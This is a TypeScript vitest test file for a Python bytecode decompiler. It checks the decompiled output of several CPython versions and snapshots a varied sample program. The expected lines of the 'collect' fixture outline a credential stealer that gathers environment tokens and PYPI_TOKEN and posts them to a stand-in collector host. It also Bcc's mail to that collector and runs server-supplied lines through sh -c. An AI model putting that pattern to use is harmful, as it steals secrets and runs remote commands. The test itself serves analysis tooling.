import { describe, expect, it } from 'vitest';
import {
  lackOf,
  openMarshal,
  textOfCompiledFile,
} from '../../../../src/languages/python/bytecode/compiled-text.ts';
import { parsePython } from '../../../../src/languages/python/parse.ts';
import { compiledCode, compiledFile, compiledVersions } from '../../../support/bytecode.ts';

function plain(text: string | undefined): string[] {
  return (text ?? '').split(/\n+|; /);
}

describe.each(compiledVersions)('what CPython %s compiled', (version) => {
  it('is Python that parses, with nothing left out', () => {
    for (const source of ['collect', 'everything']) {
      const text = textOfCompiledFile(compiledFile(source, version)) ?? '';
      expect(lackOf(text)).toBeUndefined();
      expect(parsePython('x.py', text)).toMatchObject({ partial: false });
    }
  });

  it('is told from other versions without its header', () => {
    const opened = openMarshal(compiledCode('everything', version));
    expect(opened.kind === 'code' ? plain(opened.text) : opened).toEqual(
      plain(textOfCompiledFile(compiledFile('everything', version))),
    );
  });

  it('calls what the source calls, with the same arguments', () => {
    const text = textOfCompiledFile(compiledFile('collect', version)) ?? '';
    for (const part of [
      'import requests',
      'from subprocess import run as start',
      "NAMES = [name for name in os.environ if name.endswith('_TOKEN')]",
      "message['Bcc'] = 'copy@collector.invalid'",
      'def send(to, subject, text, *, server):',
      "json={'env': dict(os.environ), **more}, timeout=timeout)",
      "start(['sh', '-c', line], check=False)",
      'for line in answer.text.splitlines():',
      'async def keep(self, client):',
      "client.post(HOST + '/keys', data=text)",
      "os.environ.get('PYPI_TOKEN')",
      " or 'none')",
    ])
      expect(text).toContain(part);
  });

  it('keeps most of its lines', () => {
    const lines = (textOfCompiledFile(compiledFile('collect', version)) ?? '').split('\n');
    expect(lines.findIndex((line) => line.includes("message['Bcc']")) + 1).toBe(18);
    expect(lines.findIndex((line) => line.startsWith('NAMES')) + 1).toBe(10);
  });
});

it('is written so that people can read it', () => {
  expect(textOfCompiledFile(compiledFile('everything', '3.12'))).toMatchInlineSnapshot(`
    "__doc__ = 'Every form that the compilers have a way of their own for.'
    import sys
    import os.path as p
    import xml.dom.minidom as dom
    from . import sibling
    from .package.module import thing as other
    from collections import *

    x = 3; x: int

    import simplejson as codec


    pairs = {key: value for (key, value) in zip('ab', range(2)) if key}
    text = ''.join((chr(code ^ 7) for code in (111, 98, 107)))
    words = {word for row in pairs for word in row}


    def shapes(data: dict, first, /, *rest, timeout=10, **more):
      'Has a text for people.'
      global x
      x = x + 1
      value_5 = data['t']; headers = {'X-A': f'tok {value_5!r:>10} {x}', **more}
      for (one, (two, *three)) in rest:
        if one:

          print(one, two, three, sep='-')

      print('over')
      if x < 10:
        x = x + 1
        if not (x == 7):
          x < 10
      value_7 = data.get('a'); chosen = value_7 or 'default'
      named = 'a' if unknown else 'b'

      other(*rest, a=chosen, **headers)



      print('done')
      if not (named):
        raise AssertionError('message')
      value_8 = named
      named = first
      first = value_8
      headers['a'][1:2] = data['x'][::2]
      del headers['a']
      def function_9(value, by=2):
        if 1 < value:
          value < 3
        return (value + by) ** (-1)
        return not value
      return function_9
      if error:
        if isinstance(error, (OSError, ValueError)):
          raise RuntimeError(named) from error
      if error:
        value_10 = error
        error = None
      if error:
        print('done')
    async def waits(things):
      value_11 = things()
      one = await value_11
      part = one[0]
      (yield part)
      if error:
        not (await unknown)
      value_12 = two
      two = things[0]
      result = [await two]
      await other(result)
    class Kind(dict, metaclass=type):
      __doc__ = 'A class.'
      size = 1
      def __init__(self, value):
        super().__init__()
        self.value = value
        def inner():
          nonlocal value
          value = 2
          return value
      @property
      def given(self):
        return self.value
    @sibling.tool(name='look')
    def tool(a: str, b: int=2):
      'Looks something up.'
      (yield a)
      (yield from b)
    print(-x, ~x, x is None, 'a' not in pairs, p.join('a', 'b'), dom, sys.argv[1:], codec, words, text)
    if error:
      if isinstance(error, ImportError):
        codec = None
    "
  `);
});
